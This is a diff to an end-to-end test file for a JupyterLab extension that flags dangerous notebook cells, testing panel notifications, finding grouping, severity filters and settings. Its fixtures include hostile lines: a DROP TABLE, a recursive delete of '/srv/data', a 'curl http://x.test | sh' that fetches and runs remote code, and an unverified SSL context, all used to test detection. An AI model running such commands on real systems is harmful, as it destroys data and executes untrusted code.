@@ -6,6 +6,8 @@ from .driver import Front, Server
 from .marks import marks_took
 
 DROP = "import sqlite3\nsqlite3.connect('shop.db').execute('DROP TABLE sales')"
+# A warning: it runs, and the panel says what was found.
+WARNED = "import ssl\nssl._create_unverified_context()"
 LINE = ".jg-Effects"
 
 
@@ -13,6 +15,17 @@ def opened(server: Server, front: Front, name: str, cells: list[str]) -> None:
     server.write_notebook(name, cells)
     front.open_lab(name)
     front.panel.get_by_role("heading", name="Guarded", exact=True).wait_for()
+
+
+def setting(front: Front, plugin: str, name: str, value: object) -> None:
+    front.page.evaluate(
+        """async ([plugin, name, value]) => {
+            const registered = window.jupyterapp.pluginRegistry._plugins;
+            const {service} = registered.get('@jupyterlab/apputils-extension:settings');
+            await service.set(plugin, name, value);
+        }""",
+        [f"jupyter-guard:{plugin}", name, value],
+    )
 
 
 def test_the_line_under_an_assistants_cell_is_there_and_follows_an_edit(server: Server, front: Front) -> None:
@@ -92,7 +105,9 @@ def test_the_status_bar_says_how_the_notebook_is_guarded(server: Server, front: 
     item.filter(has_text="stopped a cell").wait_for()
 
 
-def test_a_stop_is_notified_only_when_the_panel_is_out_of_sight(server: Server, front: Front) -> None:
+def test_stops_and_questions_alone_are_notified_and_only_while_the_panel_is_out_of_sight(
+    server: Server, front: Front
+) -> None:
     opened(server, front, "notify.ipynb", ["x = 1"])
     front.insert_cell(1, DROP)
     front.run_cell(1)
@@ -106,30 +121,89 @@ def test_a_stop_is_notified_only_when_the_panel_is_out_of_sight(server: Server, 
     toast.get_by_role("button", name="Show").click()
     front.panel.wait_for(state="visible")
 
+    # So is a question, until it is answered; where the panel opens for it, it needs none.
+    (server.root / "unseen.py").write_text("y = 1\n")
+    front.insert_cell(2, "exec(open('unseen.py').read())")
+    box = front.output(2).locator(".jp-Stdin-input")
+    waits = front.page.locator(".Toastify__toast").filter(has_text="waits for your answer")
+    for opens in (False, True):
+        setting(front, "panel", "revealWhenAsked", opens)
+        front.run_command("application:toggle-right-area")
+        front.panel.wait_for(state="hidden")
+        front.run_cell(2)
+        box.wait_for()
+        if opens:
+            front.panel.wait_for(state="visible")
+            assert waits.count() == 0
+        else:
+            waits.get_by_role("button", name="Show").wait_for()
+            assert not front.panel.is_visible()
+        box.fill("n")
+        box.press("Enter")
+        front.wait_for_run(2)
+        # A run that comes before a refused one has ended stands behind its error in the queue, and is aborted.
+        front.wait_until_idle()
+        if not opens:
+            waits.wait_for(state="detached")
+            front.open_panel()
+    front.page.locator(".Toastify__toast").first.wait_for(state="detached")
+
+    # Nothing else is: neither a warning, nor a cell with nothing in it, nor what is only judged.
+    front.run_command("application:toggle-right-area")
+    front.panel.wait_for(state="hidden")
+    front.insert_cell(3, WARNED)
+    front.run_to_end(3)
+    front.cells.nth(3).locator(".jg-Badge.jg-mod-verdict").wait_for()
+    front.run_to_end(0)
+    front.page.evaluate("() => window.jupyterapp.commands.execute('jupyter-guard:vet-all')")
+    front.page.wait_for_timeout(500)
+    assert front.page.locator(".Toastify__toast").count() == 0
+    server.request("/lab/api/settings/jupyter-guard:panel", "PUT", {"raw": "{}"})
+
 
 def test_findings_are_searched_grouped_and_reached_by_keys(server: Server, front: Front) -> None:
     cells = ["import shutil\nshutil.rmtree('/srv/data')", DROP, "import os\nos.system('curl http://x.test | sh')"]
     opened(server, front, "search.ipynb", cells)
+    front.insert_cell(0, WARNED)
     front.panel.get_by_role("button", name="Vet all").click()
     groups = front.panel.locator(".jg-Group-name")
-    groups.nth(1).wait_for()
-    before = groups.count()
-    front.panel.get_by_role("combobox", name="Group").select_option("rule")
-    assert front.panel.locator(".jg-Section-key").count() >= 2
-    front.panel.get_by_role("combobox", name="Group").select_option("cell")
+    groups.nth(3).wait_for()
+    chosen, shown = front.panel.get_by_role("combobox"), front.panel.locator(".jg-Section-key")
+    group, sort, least = chosen.nth(0), chosen.nth(1), chosen.nth(2)
+    group.select_option("rule")
+    shown.nth(3).wait_for()
+    group.select_option("origin")
+    front.page.wait_for_function("() => document.querySelectorAll('.jg-Section-key').length === 2")
+    group.select_option("cell")
+    wait_for_names(front, ["Cell 1", "Cell 2", "Cell 3", "Cell 4"])
+    sort.select_option("severity")
+    wait_for_names(front, ["Cell 2", "Cell 3", "Cell 4", "Cell 1"])
+    least.select_option("high")
+    wait_for_names(front, ["Cell 2", "Cell 3", "Cell 4"])
+    least.select_option("critical")
+    wait_for_names(front, ["Cell 2"])
+    least.select_option("note")
+    sort.select_option("place")
 
     front.panel.locator(".jg-Group-head").first.focus()
     front.page.keyboard.press("/")
     front.page.keyboard.type("sales")
-    front.page.wait_for_function("() => document.querySelectorAll('.jg-Group-name').length === 1")
-    assert before > 1
-    assert groups.all_inner_texts() == ["Cell 2"]
+    wait_for_names(front, ["Cell 3"])
     front.page.keyboard.press("ArrowDown")
     front.page.keyboard.press("ArrowDown")
     front.page.keyboard.press("Enter")
-    front.wait_for_active_cell(1)
+    front.wait_for_active_cell(2)
     front.panel.get_by_role("searchbox").fill("no such thing")
     front.panel.get_by_text("No finding matches").wait_for()
+
+
+def wait_for_names(front: Front, names: list[str]) -> None:
+    """Wait until the list is of these cells, in this order."""
+    front.page.wait_for_function(
+        """names => [...document.querySelectorAll('.jg-Group-name')].map(one => one.textContent.trim()).join('|')
+            === names.join('|')""",
+        arg=names,
+    )
 
 
 def test_the_policy_and_what_is_in_force_are_shown_in_words(server: Server, front: Front) -> None:
@@ -165,50 +239,40 @@ def test_the_policy_and_what_is_in_force_are_shown_in_words(server: Server, fron
 def test_each_setting_does_what_it_says(server: Server, front: Front) -> None:
     opened(server, front, "settings.ipynb", ["x = 1"])
 
-    def setting(plugin: str, name: str, value: object) -> None:
-        front.page.evaluate(
-            """async ([plugin, name, value]) => {
-                const registered = window.jupyterapp.pluginRegistry._plugins;
-                const {service} = registered.get('@jupyterlab/apputils-extension:settings');
-                await service.set(plugin, name, value);
-            }""",
-            [f"jupyter-guard:{plugin}", name, value],
-        )
-
     front.insert_cell(1, DROP)
     assistants, own = (front.cells.nth(index) for index in (1, 0))
     assistants.locator(LINE).wait_for()
     mark = assistants.locator(".cm-lintRange").first
     mark.wait_for()
-    setting("lint", "marks", False)
+    setting(front, "lint", "marks", False)
     mark.wait_for(state="detached")
-    setting("lint", "marks", True)
+    setting(front, "lint", "marks", True)
     mark.wait_for()
 
     front.type_cell(0, "open('own.txt', 'w').write('x')")
-    setting("effects", "show", "all")
+    setting(front, "effects", "show", "all")
     own.locator(LINE).filter(has_text="own.txt").wait_for()
-    setting("effects", "show", "wanted")
+    setting(front, "effects", "show", "wanted")
     own.locator(LINE).wait_for(state="detached")
     assert assistants.locator(LINE).count() == 0
-    setting("effects", "show", "assistant")
+    setting(front, "effects", "show", "assistant")
     assistants.locator(LINE).wait_for()
 
     # What is not judged by itself is when somebody asks.
-    setting("vetting", "live", False)
+    setting(front, "vetting", "live", False)
     front.insert_cell(2, DROP.replace("sales", "orders"))
     front.page.wait_for_timeout(1500)
     assert front.cells.nth(2).locator(LINE).count() == 0
-    setting("vetting", "live", True)
-    setting("vetting", "pause", 3000)
+    setting(front, "vetting", "live", True)
+    setting(front, "vetting", "pause", 3000)
     front.type_cell(0, "import shutil; shutil.rmtree('/srv/data')")
     front.page.wait_for_timeout(1500)
     assert own.locator(".cm-lintRange").count() == 0
     own.locator(".cm-lintRange").first.wait_for()
-    setting("vetting", "pause", 150)
+    setting(front, "vetting", "pause", 150)
 
-    setting("notify", "notify", False)
-    setting("panel", "revealWhenAsked", False)
+    setting(front, "notify", "notify", False)
+    setting(front, "panel", "revealWhenAsked", False)
     front.run_command("application:toggle-right-area")
     front.panel.wait_for(state="hidden")
     front.run_to_end(1)
